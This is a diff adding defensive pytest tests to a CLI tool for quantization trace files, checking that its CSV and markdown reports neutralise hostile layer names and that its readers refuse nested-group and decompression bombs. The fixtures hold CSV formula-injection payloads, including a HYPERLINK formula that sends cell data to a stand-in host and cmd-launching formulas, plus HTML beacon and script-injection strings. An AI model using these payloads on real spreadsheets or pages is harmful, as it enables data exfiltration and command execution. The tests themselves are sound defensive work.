@@ -11,12 +11,16 @@ a reader that blocks fails the test instead of hanging it.
 
 from __future__ import annotations
 
+import csv
+import html.parser
+import io
 import os
 import shutil
 import subprocess
 import sys
 from pathlib import Path
 
+import h5py
 import pytest
 from click.testing import CliRunner
 
@@ -124,7 +128,8 @@ def test_secret_file_never_reaches_the_api_or_the_viewer(
 @pytest.fixture(scope="module")
 def pipes(tmp_path_factory: pytest.TempPathFactory) -> Path:
     d = tmp_path_factory.mktemp("fifo")
-    for name in ("t.h5", "x.npy", "x.npz", "m.keras", "m.tflite", "data.py", "back.bin"):
+    for name in ("t.h5", "x.npy", "x.npz", "m.keras", "m.tflite", "data.py", "back.bin",
+                 "c.png"):
         os.mkfifo(d / name)
     (d / "images").mkdir()
     os.mkfifo(d / "images" / "a.png")
@@ -161,6 +166,8 @@ FIFO_CASES: list[tuple[str, list[str], tuple[str, ...]]] = [
      ("x.npy", "a pipe", "not writing over it")),
     ("export over a FIFO", ["export", str(FIXTURE), "--tflite", "m.tflite", "--force"],
      ("m.tflite", "a pipe", "not writing over it")),
+    ("plot over a FIFO", ["plot", str(FIXTURE), "--out", "c.png", "--force"],
+     ("c.png", "a pipe", "not writing over it")),
 ]
 
 
@@ -397,3 +404,306 @@ def test_without_tensorflow_the_tracer_says_what_to_install(tmp_path: Path, comm
                        timeout=60)
     _assert_one_line_error(p.returncode, p.stderr, "TensorFlow", "pip install 'qdebug[trace]'")
     assert sorted(x.name for x in tmp_path.iterdir()) == ["m.keras"]
+
+
+# -- strings a stranger chose: spreadsheet formulas, markup, megabytes -----------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+            "'=already quoted"]
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    names = ["x", *FORMULAS, "-3.5", "out"]
+    trace = make_trace(tmp_path / "t.h5", layers=len(names), names=names)
+    ht.strings("layers/class_name", {1: "=1+1"})(trace)
+    ht.strings("layers/tensor_name", {2: "@evil()"})(trace)
+    code, out, err = _run(["report", str(trace), "--format", "csv"])
+    assert code == 0, err
+    rows = list(csv.reader(io.StringIO(out)))
+    for row in rows:
+        for cell in row:
+            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                float(cell)  # only a number may start so: -3.5, -inf, a negative mean error
+    columns = dict(zip(rows[0], zip(*rows[1:], strict=True), strict=True))
+    # One leading ' undoes the rule: the names come back exactly.
+    assert [c[1:] if c.startswith("'") else c for c in columns["layer"]] == names
+    assert columns["layer"][-2] == "-3.5"  # a name that is a number is left as it is
+    assert columns["class_name"][1] == "'=1+1" and columns["tensor_name"][2] == "'@evil()"
+    assert any(v and float(v) < 0 for v in columns["mean_error"])  # negative numbers stay
+
+
+BEACON = "https://beacon.example/"
+MARKUP = [f"<img src={BEACON}a.png>", "</details><h1>pwned</h1>", "tick`s``and```more",
+          "pipe|cell", f"![x]({BEACON}b.png)", "$x^{$", "*em* _em_ ~~gone~~", "line\nbreak",
+          "<script>alert(1)</script>", "a&amp;b"]
+_TAGS = {"h2", "h3", "h4", "p", "strong", "em", "code", "pre", "ul", "li", "table", "thead",
+         "tbody", "tr", "th", "td", "details", "summary"}
+
+
+class _Html(html.parser.HTMLParser):
+    """Tags, attributes, text and the cells of each table row of rendered markdown."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
+        self.text: list[str] = []
+        self.tables: list[list[int]] = []  # per table, the cells of each row
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, attrs))
+        if tag == "table":
+            self.tables.append([])
+        elif tag == "tr":
+            self.tables[-1].append(0)
+        elif tag in ("td", "th"):
+            self.tables[-1][-1] += 1
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+
+def _render(markdown: str) -> _Html:
+    """``markdown`` as GitHub renders it (CommonMark with raw HTML, tables, strike-through),
+    parsed."""
+    from markdown_it import MarkdownIt
+
+    parser = _Html()
+    parser.feed(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+                .render(markdown))
+    return parser
+
+
+def _assert_inert(markdown: str) -> _Html:
+    page = _render(markdown)
+    assert {t for t, _ in page.tags} <= _TAGS, page.tags  # no <img>, <h1>, <script>
+    attrs = {a for _, pairs in page.tags for a in pairs}
+    assert attrs <= {("class", "language-sh")}, attrs  # no src=, href=, on…=
+    assert [t for t, _ in page.tags].count("details") <= 1
+    assert all(len(set(rows)) == 1 for rows in page.tables), page.tables  # no row split by |
+    return page
+
+
+def test_markdown_carries_no_markup_from_the_trace(tmp_path: Path) -> None:
+    from qdebug.output.fmt import printable
+
+    names = ["x", *MARKUP, f"<img src={BEACON}out.png>"]
+    model = f"m`</details><img src={BEACON}m.png>"
+    a = make_trace(tmp_path / "a.h5", layers=len(names), names=names, model_name=model)
+    b = make_trace(tmp_path / "b.h5", layers=len(names), names=names, model_name=model,
+                   base_noise_lsb=3.0, seed=1)  # a regression: the reasons name layers
+    for t in (a, b):
+        ht.root_attrs(data_source=f"<img src={BEACON}data.png>",
+                      warnings=[f"</details><img src={BEACON}w.png>", "`x` | y"])(t)
+    code, out, err = _run(["report", str(a), "--format", "markdown"])
+    assert code == 0, err
+    page = _assert_inert(out)
+    text = "".join(page.text)
+    for name in [*names, model]:  # every name shown as its characters
+        assert printable(name) in text, name
+    code, out, err = _run(["diff", str(a), str(b), "--format", "markdown"])
+    assert code == 1, err
+    _assert_inert(out)
+
+
+# -- bounds: deeper, bigger or more than the file can hold -----------------------------------------
+
+#: A reader's work on these files is bounded: it refuses them in well under a second. The
+#: subprocesses still get a generous timeout so that a reader that walks or allocates without
+#: bound fails the test instead of hanging it (before the bounds: a segfault after ~66 s).
+BOMB_TIMEOUT_S = 300
+
+
+def _bomb(tmp_path: Path, name: str, *mutations: ht.Mutation) -> Path:
+    path = tmp_path / name
+    shutil.copy(FIXTURE, path)
+    for mutate in mutations:
+        mutate(path)
+    return path
+
+
+_OPEN = "import sys, qdebug; qdebug.open(sys.argv[1])"
+
+
+def test_deeply_nested_trace_is_refused_by_every_reader(tmp_path: Path) -> None:
+    deep = _bomb(tmp_path, "deep.h5", ht.deep_groups(10_000))
+    runs = [("report", deep), ("report", deep, "--format", "csv"), ("view", deep),
+            ("diff", FIXTURE, deep), ("export", deep, "--tflite", tmp_path / "o" / "m.tflite")]
+    for args in runs:
+        p = _qdebug(*args, timeout=BOMB_TIMEOUT_S, stdin=subprocess.DEVNULL)
+        _assert_one_line_error(p.returncode, p.stderr, "deep.h5", "nests groups more than 32",
+                               "'deep'")
+        assert p.stdout == ""
+    p = subprocess.run([sys.executable, "-c", _OPEN, str(deep)], capture_output=True, text=True,
+                       timeout=BOMB_TIMEOUT_S)
+    assert p.returncode == 1 and "TraceFileError" in p.stderr and "nests groups" in p.stderr
+    assert not (tmp_path / "o").exists()
+
+
+def test_nesting_just_past_the_bound_is_refused_in_process(tmp_path: Path) -> None:
+    import qdebug
+
+    for where in ("deep", "metrics/layers/deep", "activations/0/deep"):
+        path = _bomb(tmp_path, "d.h5", ht.deep_groups(40, where))
+        with pytest.raises(QdebugError, match="nests groups more than 32 levels deep"):
+            qdebug.open(path)
+    with qdebug.open(_bomb(tmp_path, "ok.h5", ht.deep_groups(20))) as tr:  # within the bound
+        assert len(tr.layers) == 13
+
+
+@pytest.mark.parametrize("fmt", ["text", "csv", "json", "markdown"])
+def test_compressed_string_columns_are_refused(tmp_path: Path, fmt: str) -> None:
+    # 13 layer names of 8 MiB each: 104 MiB in memory from 100 kB in the file.
+    trace = _bomb(tmp_path, "strings.h5", ht.compressed_strings("layers/name", 8 << 20))
+    assert trace.stat().st_size < FIXTURE.stat().st_size + (1 << 20)
+    code, out, err = _run(["report", str(trace), "--format", fmt])
+    _assert_one_line_error(code, err, "strings.h5", "layers/name", "8,388,608 bytes each")
+    assert out == ""
+
+
+def test_view_and_export_refuse_compressed_strings(tmp_path: Path) -> None:
+    trace = _bomb(tmp_path, "strings.h5", ht.compressed_strings("outputs/tensor_name", 4 << 20))
+    for args in (["view", str(trace)], ["diff", str(FIXTURE), str(trace)],
+                 ["export", str(trace), "--inputs", str(tmp_path / "i.npz")]):
+        code, out, err = _run(args)
+        _assert_one_line_error(code, err, "strings.h5", "outputs/tensor_name", "bytes each")
+        assert out == ""
+    assert not (tmp_path / "i.npz").exists()
+
+
+def test_never_written_stored_inputs_are_refused(tmp_path: Path) -> None:
+    # 8 stored samples of 128 MiB each, declared over compressed chunks that were never written:
+    # a 1 MB trace that exported a 1 GiB .npz of zeros.
+    trace = _bomb(tmp_path, "inputs.h5",
+                  ht.unwritten_chunks("samples/inputs/0", (8, 32 << 20), "float32"))
+    out = tmp_path / "i.npz"
+    code, _, err = _run(["export", str(trace), "--inputs", str(out)])
+    _assert_one_line_error(code, err, "inputs.h5", "samples/inputs/0", "never written")
+    assert not out.exists()
+
+
+def test_what_a_command_reads_in_all_is_bounded_by_the_file_size(tmp_path: Path) -> None:
+    import h5py
+    import numpy as np
+
+    # Two stored inputs of 160 MiB zeros each, compressed: each read is within the 1 GiB
+    # per-read cap and every chunk is written, but together they declare 320 MiB from a file
+    # of about 1.6 MB, more than 64 times its size and the 256 MiB floor.
+    trace = tmp_path / "zeros.h5"
+    shutil.copy(FIXTURE, trace)
+    with h5py.File(trace, "a") as f:
+        del f["samples/inputs/0"]
+        ds = f.create_dataset("samples/inputs/0", shape=(8, 10 << 20), dtype=np.float32,
+                              chunks=(1, 1 << 20), compression="gzip")
+        for i in range(8):
+            ds[i] = np.zeros(10 << 20, dtype=np.float32)
+    assert trace.stat().st_size < 4 << 20
+    out = tmp_path / "i.npz"
+    code, _, err = _run(["export", str(trace), "--inputs", str(out)])
+    _assert_one_line_error(code, err, "zeros.h5", "declares more data than it can hold",
+                           "at most 64 times its size")
+    assert not out.exists()
+
+
+def test_memory_limit_while_reading_says_memory_not_damage(tmp_path: Path) -> None:
+    import h5py
+    import numpy as np
+
+    # A 200 MB model (compressed zeros): within every bound of the reader, but not within the
+    # address space this process is given (ulimit -v) -- the user's limit, not a damaged file.
+    trace = tmp_path / "bigmodel.h5"
+    shutil.copy(FIXTURE, trace)
+    with h5py.File(trace, "a") as f:
+        del f["model/int8_tflite"]
+        f.create_dataset("model/int8_tflite", data=np.zeros(200 << 20, dtype=np.uint8),
+                         chunks=(1 << 20,), compression="gzip")
+    limited = (
+        "import resource, sys\n"
+        "from qdebug.cli import main\n"
+        "import qdebug.store.reader, qdebug.output.export, h5py, numpy\n"
+        "vm = [int(l.split()[1]) * 1024 for l in open('/proc/self/status')"
+        " if l.startswith('VmSize:')][0]\n"
+        "resource.setrlimit(resource.RLIMIT_AS, (vm + (120 << 20), resource.RLIM_INFINITY))\n"
+        "sys.argv[0] = 'qdebug'\n"
+        "main()\n"
+    )
+    out = tmp_path / "m.tflite"
+    p = subprocess.run([sys.executable, "-c", limited, "export", str(trace), "--tflite",
+                        str(out)], capture_output=True, text=True, timeout=BOMB_TIMEOUT_S)
+    _assert_one_line_error(p.returncode, p.stderr, "out of memory", "bigmodel.h5",
+                           "ulimit -v")
+    assert "damaged" not in p.stderr
+    assert not out.exists()
+
+
+#: GitHub's limit for an issue or comment body (characters; a UTF-8 byte count is never lower).
+BODY_LIMIT = 65_536
+
+
+def test_markdown_fits_in_a_github_comment(tmp_path: Path) -> None:
+    names = ["input", *(f"model/stage_{i // 50}/block_{i}/conv2d_{i}" for i in range(1, 800))]
+    a = make_trace(tmp_path / "a.h5", layers=800, names=names, samples=4, width=4)
+    b = make_trace(tmp_path / "b.h5", layers=800, names=names, samples=4, width=4,
+                   base_noise_lsb=4.0, seed=1)  # every layer gets worse: 799 reasons
+    code, out, err = _run(["report", str(a), "--format", "markdown"])
+    assert code == 0, err
+    assert len(out.encode()) <= BODY_LIMIT
+    page = _assert_inert(out)
+    assert page.tables[-1] and len(page.tables[-1]) < 800  # the per-layer table, cut short
+    assert "more layers not shown" in out and "--format csv" in out
+    assert [t for t, _ in page.tags].count("details") == 1  # still closed after the fold
+    assert out.rstrip().endswith("the stored inputs.")  # the sections after it are all there
+    code, out, err = _run(["diff", str(a), str(b), "--format", "markdown"])
+    assert code == 1, err
+    assert len(out.encode()) <= BODY_LIMIT and "more reasons not shown" in out
+    assert "#### Layers that changed most" in out
+    _assert_inert(out)
+
+
+def test_megabyte_strings_are_capped_before_anything_renders_them(tmp_path: Path) -> None:
+    trace = tmp_path / "long.h5"
+    shutil.copy(FIXTURE, trace)
+    first, second = "a" * 1_000_000, "b" * 1_000_000
+    with h5py.File(trace, "r") as f:
+        culprit = [int(i) for i in f["analysis/culprits/index"][:2]]
+    ht.strings("layers/name", {culprit[0]: first, culprit[1]: second})(trace)
+    ht.strings("analysis/culprits/layer", {0: first, 1: second})(trace)
+    ht.strings("analysis/culprits/reason", {0: "r, " * 70_000})(trace)
+    ht.root_attrs(model_name="m" * 1_000_000, warnings=["w " * 100_000])(trace)
+    # Rich's highlighter is quadratic in a string's length: before the cap, the 210,000-character
+    # reason alone took minutes (40,000 characters: 7.5 s), the names longer, far past the timeout.
+    for args in (["report", trace], ["view", trace], ["report", trace, "--format", "markdown"],
+                 ["diff", trace, trace]):
+        p = _qdebug(*args, timeout=120, stdin=subprocess.DEVNULL)
+        assert p.returncode in (0, 1), (args, p.stderr)
+        assert "1,000,000 characters in all" in p.stdout, args
+        assert max(map(len, p.stdout.splitlines())) < 20_000, args  # every name and reason cut
+
+
+def _png_size(path: Path) -> tuple[int, int]:
+    head = path.read_bytes()[:24]
+    assert head[:8] == b"\x89PNG\r\n\x1a\n"
+    return int.from_bytes(head[16:20], "big"), int.from_bytes(head[20:24], "big")
+
+
+def test_plot_of_a_long_model_with_dollar_names(tmp_path: Path) -> None:
+    pytest.importorskip("matplotlib", reason="matplotlib is not installed")
+    # 400 layers drew a 14,000-pixel-wide picture (0.35 inch a layer: 20,000 layers took 2.7 GB);
+    # a `$` in a name was read as mathematics (matplotlib's "unexpected ValueError").
+    names = ["x", "$x^{$", r"$\frac{$", *(f"block_{i}/conv" for i in range(3, 400))]
+    trace = make_trace(tmp_path / "t.h5", layers=len(names), names=names, store=1)
+    code, _, err = _run(["plot", str(trace), "--out", str(tmp_path / "c.png"),
+                         "--layer", "$x^{$"])
+    assert code == 0, err
+    width, _ = _png_size(tmp_path / "c.png")
+    assert width <= 1600
+    small = make_trace(tmp_path / "s.h5", layers=6, names=["x", "$x^{$", *"abcd"],
+                       model_name="$\\x$", store=1)
+    code, _, err = _run(["plot", str(small), "--out", str(tmp_path / "c.svg"),
+                         "--layer", "$x^{$"])
+    assert code == 0, err
+    svg = (tmp_path / "c.svg").read_text()
+    assert "<!-- $x^{$ -->" in svg and "error of $x^{$" in svg  # drawn as its characters
+    code, _, err = _run(["plot", str(trace), "--out", str(tmp_path / "c.svg"), "--force"])
+    assert code == 0, err
+    assert 0 < (tmp_path / "c.svg").read_text().count("<!-- block_") <= 80  # names thinned
